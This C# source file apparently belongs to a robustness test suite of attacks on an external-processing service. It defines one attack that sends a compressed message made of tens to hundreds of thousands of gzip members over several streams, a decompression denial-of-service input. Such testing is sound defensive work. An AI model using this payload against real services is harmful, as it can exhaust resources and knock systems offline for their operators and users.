using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>A message of a hundred thousand gzip members, each of which is empty.</summary>
internal sealed class CompressedMembers : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] message = Requests.Framed(((ReadOnlySpan<byte>)Requests.Gzip("a"u8)).Times(target.Count(20_000, 500_000)), compressed: true);
        return Compressed.SendAsync(target, message, streams: 4);
    }
}
